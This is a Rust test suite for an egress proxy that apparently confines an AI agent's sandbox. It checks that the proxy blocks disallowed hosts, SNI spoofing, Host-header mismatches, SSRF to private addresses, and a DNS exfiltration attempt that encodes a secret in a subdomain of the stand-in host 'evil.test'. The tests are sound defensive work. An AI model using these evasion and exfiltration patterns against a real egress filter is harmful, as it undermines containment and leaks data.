//! The explicit proxy and capture paths end to end, on loopback: a real
//! proxy listener, real upstreams on 127.0.0.2/3, and a recording resolver.

mod common;

use common::*;
use keystone_egress::log;
use keystone_egress::proxy::{handle_capture, serve_explicit, Ctx};
use keystone_egress::sni::build_client_hello;
use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

async fn proxy(ctx: Arc<Ctx>) -> SocketAddr {
    let l = TcpListener::bind("127.0.0.1:0").await.expect("bind proxy");
    let addr = l.local_addr().expect("addr");
    tokio::spawn(serve_explicit(l, ctx));
    addr
}

/// A listener whose connections are handled as if the guest had dialled
/// `dest` (what `serve_capture` reads from the accepted socket).
async fn capture(ctx: Arc<Ctx>, dest: SocketAddr) -> SocketAddr {
    let l = TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind capture");
    let addr = l.local_addr().expect("addr");
    tokio::spawn(async move {
        while let Ok((s, _)) = l.accept().await {
            tokio::spawn(handle_capture(s, dest, ctx.clone()));
        }
    });
    addr
}

struct World {
    _dir: tempfile::TempDir,
    log: std::path::PathBuf,
    resolver: Resolver,
    web: Web,
    echo: Echo,
    ctx: Arc<Ctx>,
    proxy: SocketAddr,
}

/// web.test and tls.test are allowed on their test ports (and loopback by
/// a test-only CIDR rule, so the pinned 127.0.0.x addresses pass the
/// filter); other.test resolves too, but no rule allows it.
async fn world() -> World {
    let dir = tempfile::tempdir().expect("tmp");
    let log = dir.path().join("egress.log");
    let resolver = resolver(&[
        ("web.test", WEB_IP),
        ("tls.test", ECHO_IP),
        ("other.test", WEB_IP),
        ("evil.test", ECHO_IP),
    ])
    .await;
    let web = web().await;
    let echo = echo().await;
    let allow = [
        format!("web.test:{}", web.port),
        "tls.test:*".to_string(),
        "127.0.0.0/8:*".to_string(),
    ];
    let allow: Vec<&str> = allow.iter().map(String::as_str).collect();
    let ctx = ctx(&allow, &["denied.test"], resolver.addr, &log);
    let proxy = proxy(ctx.clone()).await;
    World {
        _dir: dir,
        log,
        resolver,
        web,
        echo,
        ctx,
        proxy,
    }
}

async fn connect_via(proxy: SocketAddr, hostport: &str) -> (TcpStream, u16, String) {
    let mut s = TcpStream::connect(proxy).await.expect("connect proxy");
    let req = format!("CONNECT {hostport} HTTP/1.1\r\nHost: {hostport}\r\n\r\n");
    s.write_all(req.as_bytes()).await.expect("write");
    let (status, _, body) = read_response(&mut s).await;
    (s, status, body)
}

#[tokio::test]
async fn allowed_connect_relays_end_to_end() {
    let w = world().await;
    let (mut s, status, _) = connect_via(w.proxy, &format!("tls.test:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    let hello = build_client_hello(Some("TLS.test"));
    s.write_all(&hello).await.expect("hello");
    s.write_all(b"after").await.expect("data");
    let mut back = vec![0u8; hello.len() + 5];
    tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut back))
        .await
        .expect("in time")
        .expect("echo");
    assert_eq!(&back[..hello.len()], &hello[..]);
    assert_eq!(&back[hello.len()..], b"after");
    let events = log::tail(&w.log, 10);
    assert!(events
        .iter()
        .any(|e| e.proto == "connect" && e.host == "tls.test" && e.decision == "allow"));
    assert!(events
        .iter()
        .any(|e| e.proto == "tls" && e.decision == "allow" && e.rule == "SNI tls.test matches"));
}

#[tokio::test]
async fn denied_connect_is_403_at_once_with_the_allow_command() {
    let w = world().await;
    let start = Instant::now();
    let (_s, status, body) = connect_via(w.proxy, "evil.test:443").await;
    assert_eq!(status, 403);
    assert!(start.elapsed() < Duration::from_secs(1));
    assert!(
        body.contains("keystone agent allow testbox evil.test"),
        "{body}"
    );
    assert!(
        body.contains("evil.test port 443") && body.contains("no rule allows it"),
        "{body}"
    );
    let (_s, status, body) = connect_via(w.proxy, "denied.test:443").await;
    assert_eq!(status, 403);
    assert!(body.contains("deny denied.test"), "{body}");
    // Decided without resolving anything.
    assert!(w.resolver.names().is_empty(), "{:?}", w.resolver.names());
    let last = log::tail(&w.log, 1).pop().expect("event");
    assert_eq!(
        (last.proto.as_str(), last.decision.as_str()),
        ("connect", "deny")
    );
}

#[tokio::test]
async fn absolute_form_get_is_forwarded_in_origin_form() {
    let w = world().await;
    let mut s = TcpStream::connect(w.proxy).await.expect("connect");
    let hp = format!("web.test:{}", w.web.port);
    let req = format!(
        "GET http://{hp}/path?q=1 HTTP/1.1\r\nHost: {hp}\r\nProxy-Authorization: Basic eA==\r\n\r\n"
    );
    s.write_all(req.as_bytes()).await.expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, format!("seen GET /path?q=1 HTTP/1.1 host={hp}"));
    let seen = w.web.requests.lock().expect("lock").clone();
    assert!(!seen[0].to_ascii_lowercase().contains("proxy-authorization"));
}

#[tokio::test]
async fn host_disagreeing_with_uri_is_refused() {
    let w = world().await;
    let mut s = TcpStream::connect(w.proxy).await.expect("connect");
    let req = format!(
        "GET http://web.test:{p}/ HTTP/1.1\r\nHost: other.test:{p}\r\n\r\n",
        p = w.web.port
    );
    s.write_all(req.as_bytes()).await.expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 403);
    assert!(
        body.contains("web.test") && body.contains("other.test"),
        "{body}"
    );
    assert!(w.web.requests.lock().expect("lock").is_empty());
}

#[tokio::test]
async fn each_keep_alive_request_is_checked() {
    let w = world().await;
    let mut s = TcpStream::connect(w.proxy).await.expect("connect");
    let p = w.web.port;
    let first = format!("GET http://web.test:{p}/one HTTP/1.1\r\nHost: web.test:{p}\r\n\r\n");
    s.write_all(first.as_bytes()).await.expect("write");
    let (status, head, _) = read_response(&mut s).await;
    assert_eq!(status, 200);
    assert!(!head.to_ascii_lowercase().contains("connection: close"));
    let second = format!("GET http://other.test:{p}/two HTTP/1.1\r\nHost: other.test:{p}\r\n\r\n");
    s.write_all(second.as_bytes()).await.expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 403, "{body}");
    assert!(
        body.contains("keystone agent allow testbox other.test:"),
        "{body}"
    );
    assert_eq!(w.web.requests.lock().expect("lock").len(), 1);
}

#[tokio::test]
async fn sni_mismatch_closes_the_tunnel() {
    let w = world().await;
    let (mut s, status, _) = connect_via(w.proxy, &format!("tls.test:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    s.write_all(&build_client_hello(Some("evil.test")))
        .await
        .expect("hello");
    assert!(closed(&mut s).await, "tunnel stayed open");
    assert!(
        w.echo.got.lock().expect("lock").is_empty(),
        "bytes reached upstream"
    );
    let ev = log::tail(&w.log, 10);
    assert!(
        ev.iter().any(|e| e.proto == "tls"
            && e.decision == "deny"
            && e.rule == "SNI evil.test does not match CONNECT tls.test"),
        "{ev:?}"
    );
    // No SNI at all to a name: refused too.
    let (mut s, status, _) = connect_via(w.proxy, &format!("tls.test:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    s.write_all(&build_client_hello(None)).await.expect("hello");
    assert!(closed(&mut s).await);
    assert!(w.echo.got.lock().expect("lock").is_empty());
}

#[tokio::test]
async fn no_sni_is_allowed_to_a_cidr_allowed_address() {
    let w = world().await;
    let (mut s, status, _) = connect_via(w.proxy, &format!("127.0.0.3:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    let hello = build_client_hello(None);
    s.write_all(&hello).await.expect("hello");
    let mut back = vec![0u8; hello.len()];
    tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut back))
        .await
        .expect("in time")
        .expect("echo");
    assert_eq!(back, hello);
}

#[tokio::test]
async fn capture_on_a_pool_address_relays_to_upstream() {
    let w = world().await;
    let ip = w.ctx.pool.assign("tls.test").expect("pool address");
    let at = capture(w.ctx.clone(), SocketAddr::new(IpAddr::V4(ip), w.echo.port)).await;
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(b"SSH-2.0-test\r\n").await.expect("write");
    let mut back = [0u8; 14];
    tokio::time::timeout(Duration::from_secs(5), s.read_exact(&mut back))
        .await
        .expect("in time")
        .expect("echo");
    assert_eq!(&back, b"SSH-2.0-test\r\n");
    // A ClientHello for another name on the same captured address: closed.
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(&build_client_hello(Some("evil.test")))
        .await
        .expect("hello");
    assert!(closed(&mut s).await);
    assert_eq!(
        w.echo.got.lock().expect("lock").as_slice(),
        b"SSH-2.0-test\r\n"
    );
}

#[tokio::test]
async fn capture_http_checks_every_host() {
    let w = world().await;
    let ip = w.ctx.pool.assign("web.test").expect("pool address");
    let p = w.web.port;
    let at = capture(w.ctx.clone(), SocketAddr::new(IpAddr::V4(ip), p)).await;
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(format!("GET /a HTTP/1.1\r\nHost: web.test:{p}\r\n\r\n").as_bytes())
        .await
        .expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body, format!("seen GET /a HTTP/1.1 host=web.test:{p}"));
    s.write_all(format!("GET /b HTTP/1.1\r\nHost: other.test:{p}\r\n\r\n").as_bytes())
        .await
        .expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 403, "{body}");
    assert_eq!(w.web.requests.lock().expect("lock").len(), 1);
}

/// A client that shuts its write side after the request (`nc -N`, some
/// scripts) still gets the response, captured and through the proxy.
#[tokio::test]
async fn a_request_then_half_close_is_answered() {
    let w = world().await;
    let ip = w.ctx.pool.assign("web.test").expect("pool address");
    let p = w.web.port;
    let at = capture(w.ctx.clone(), SocketAddr::new(IpAddr::V4(ip), p)).await;
    for (to, target) in [
        (at, "/half".to_string()),
        (w.proxy, format!("http://web.test:{p}/half")),
    ] {
        let mut s = TcpStream::connect(to).await.expect("connect");
        s.write_all(format!("GET {target} HTTP/1.1\r\nHost: web.test:{p}\r\n\r\n").as_bytes())
            .await
            .expect("write");
        s.shutdown().await.expect("half-close");
        let (status, _, body) = read_response(&mut s).await;
        assert_eq!(status, 200, "{target}: {body}");
    }
}

#[tokio::test]
async fn capture_of_an_unknown_address_is_reset_at_once() {
    let w = world().await;
    // A public address no CIDR rule names, and a pool address never given out.
    for dest in ["203.0.113.9:443", "198.18.77.77:443", "203.0.113.9:22"] {
        let at = capture(w.ctx.clone(), dest.parse().expect("addr")).await;
        let mut s = TcpStream::connect(at).await.expect("connect");
        let start = Instant::now();
        let mut b = [0u8; 16];
        let r = tokio::time::timeout(Duration::from_secs(5), s.read(&mut b))
            .await
            .expect("in time");
        assert_eq!(
            r.map_err(|e| e.kind()).err(),
            Some(std::io::ErrorKind::ConnectionReset),
            "{dest}"
        );
        assert!(start.elapsed() < Duration::from_secs(1));
    }
    // On port 80 a denied connection first gets a 403.
    let at = capture(w.ctx.clone(), "203.0.113.9:80".parse().expect("addr")).await;
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(b"GET / HTTP/1.1\r\nHost: 203.0.113.9\r\n\r\n")
        .await
        .expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 403);
    assert!(
        body.contains("keystone agent allow testbox 203.0.113.9"),
        "{body}"
    );
}

#[tokio::test]
async fn resolver_sees_only_allowed_names() {
    let w = world().await;
    let policy = w.ctx.policy();
    let q = dns_query(7, "secret-abc123.evil.test", 1);
    let r = keystone_egress::dns::answer(&q, &policy, &w.ctx.pool).expect("reply");
    assert_eq!(r[3] & 0x0f, 5, "REFUSED");
    let (_s, status, _) = connect_via(w.proxy, "secret-abc123.evil.test:443").await;
    assert_eq!(status, 403);
    let (mut s, status, _) = connect_via(w.proxy, &format!("tls.test:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    drop(s.shutdown().await);
    let names = w.resolver.names();
    assert!(!names.is_empty());
    assert!(names.iter().all(|n| n == "tls.test"), "{names:?}");
}

#[tokio::test]
async fn a_name_resolving_to_a_private_address_is_refused() {
    // Without the loopback CIDR rule, an allowed name that resolves to
    // 127.0.0.2 is refused after resolution (SSRF / rebinding guard).
    let dir = tempfile::tempdir().expect("tmp");
    let resolver = resolver(&[("web.test", WEB_IP)]).await;
    let web = web().await;
    let ctx = ctx(
        &[&format!("web.test:{}", web.port)],
        &[],
        resolver.addr,
        &dir.path().join("log"),
    );
    let proxy = proxy(ctx).await;
    let (_s, status, body) = connect_via(proxy, &format!("web.test:{}", web.port)).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("127.0.0.2"), "{body}");
    assert!(web.requests.lock().expect("lock").is_empty());
}

#[tokio::test]
async fn origin_form_to_the_proxy_is_400() {
    let w = world().await;
    let mut s = TcpStream::connect(w.proxy).await.expect("connect");
    s.write_all(b"GET / HTTP/1.1\r\nHost: 198.18.0.1:3128\r\n\r\n")
        .await
        .expect("write");
    let (status, _, body) = read_response(&mut s).await;
    assert_eq!(status, 400);
    assert!(body.contains("keystone's egress proxy"), "{body}");
}

#[tokio::test]
async fn plain_bytes_on_captured_443_are_refused_before_connecting() {
    let w = world().await;
    let ip = w.ctx.pool.assign("tls.test").expect("pool address");
    let at = capture(w.ctx.clone(), SocketAddr::new(IpAddr::V4(ip), 443)).await;
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(b"GET / HTTP/1.1\r\nHost: tls.test\r\n\r\n")
        .await
        .expect("write");
    assert!(closed(&mut s).await);
    let ev = log::tail(&w.log, 10);
    assert!(
        ev.iter()
            .any(|e| e.decision == "deny" && e.rule == "non-TLS bytes on port 443"),
        "{ev:?}"
    );
    // Nothing was resolved: refused before any upstream connection.
    assert!(w.resolver.names().is_empty(), "{:?}", w.resolver.names());
}

/// How many times the resolver was asked about `name` (A and AAAA count
/// one each).
fn asked(r: &Resolver, name: &str) -> usize {
    r.names().iter().filter(|n| *n == name).count()
}

/// A proxy allowing tls.test, whose resolver answers with `ttl`; the
/// echo upstream's `host:port`.
async fn ttl_world(
    ttl: u32,
) -> (
    tempfile::TempDir,
    Resolver,
    Echo,
    Arc<Ctx>,
    SocketAddr,
    String,
) {
    let dir = tempfile::tempdir().expect("tmp");
    let resolver = resolver_ttl(&[("tls.test", ECHO_IP)], ttl).await;
    let echo = echo().await;
    let ctx = ctx(
        &["tls.test:*", "127.0.0.0/8:*"],
        &[],
        resolver.addr,
        &dir.path().join("log"),
    );
    let proxy = proxy(ctx.clone()).await;
    let hp = format!("tls.test:{}", echo.port);
    (dir, resolver, echo, ctx, proxy, hp)
}

#[tokio::test]
async fn an_answer_is_reused_for_its_ttl_then_asked_again() {
    let (_dir, resolver, _echo, _ctx, proxy, hp) = ttl_world(1).await;
    let (_a, status, _) = connect_via(proxy, &hp).await;
    assert_eq!(status, 200);
    assert_eq!(asked(&resolver, "tls.test"), 2, "A and AAAA");
    let (_b, status, _) = connect_via(proxy, &hp).await;
    assert_eq!(status, 200);
    assert_eq!(asked(&resolver, "tls.test"), 2, "the kept answer");
    tokio::time::sleep(Duration::from_millis(1100)).await;
    let (_c, status, _) = connect_via(proxy, &hp).await;
    assert_eq!(status, 200);
    assert_eq!(asked(&resolver, "tls.test"), 4, "expired, asked again");
}

#[tokio::test]
async fn an_answer_with_ttl_zero_is_not_kept() {
    let (_dir, resolver, _echo, ctx, proxy, hp) = ttl_world(0).await;
    for _ in 0..2 {
        let (_s, status, _) = connect_via(proxy, &hp).await;
        assert_eq!(status, 200);
    }
    assert_eq!(asked(&resolver, "tls.test"), 4);
    assert!(ctx.resolutions.is_empty());
}

#[tokio::test]
async fn a_kept_answer_is_filtered_again_after_a_reload() {
    // Connected while a CIDR rule allowed loopback; the reload drops the
    // rule, and the answer still kept (127.0.0.3) is refused by the
    // special-range filter, not reused.
    let dir = tempfile::tempdir().expect("tmp");
    let resolver = resolver(&[("tls.test", ECHO_IP)]).await;
    let echo = echo().await;
    let ctx = ctx(
        &["tls.test:*", "127.0.0.0/8:*"],
        &[],
        resolver.addr,
        &dir.path().join("log"),
    );
    let proxy = proxy(ctx.clone()).await;
    let hp = format!("tls.test:{}", echo.port);
    let (_s, status, _) = connect_via(proxy, &hp).await;
    assert_eq!(status, 200);
    assert_eq!(ctx.resolutions.len(), 1);
    let narrower = keystone_egress::policy::Spec {
        allow: vec!["tls.test:*".into()],
        resolver: Some(resolver.addr.to_string()),
        ..Default::default()
    }
    .compile()
    .expect("compile");
    ctx.set_policy(narrower);
    let (_s, status, body) = connect_via(proxy, &hp).await;
    assert_eq!(status, 403, "{body}");
    assert!(body.contains("127.0.0.3"), "{body}");
    assert_eq!(
        asked(&resolver, "tls.test"),
        2,
        "refused from the kept answer"
    );
}

#[tokio::test]
async fn captured_443_with_a_kept_answer_still_refuses_plain_bytes_unsent() {
    // The answer for tls.test is kept (a CONNECT resolved it), so the
    // capture dials early; the plain bytes are refused all the same, and
    // no resolver is asked again before the check.
    let w = world().await;
    let (_s, status, _) = connect_via(w.proxy, &format!("tls.test:{}", w.echo.port)).await;
    assert_eq!(status, 200);
    let before = asked(&w.resolver, "tls.test");
    let ip = w.ctx.pool.assign("tls.test").expect("pool address");
    let at = capture(w.ctx.clone(), SocketAddr::new(IpAddr::V4(ip), 443)).await;
    let mut s = TcpStream::connect(at).await.expect("connect");
    s.write_all(b"GET / HTTP/1.1\r\nHost: tls.test\r\n\r\n")
        .await
        .expect("write");
    assert!(closed(&mut s).await);
    let ev = log::tail(&w.log, 10);
    assert!(
        ev.iter()
            .any(|e| e.decision == "deny" && e.rule == "non-TLS bytes on port 443"),
        "{ev:?}"
    );
    assert_eq!(asked(&w.resolver, "tls.test"), before);
    assert!(w.echo.got.lock().expect("lock").is_empty());
}
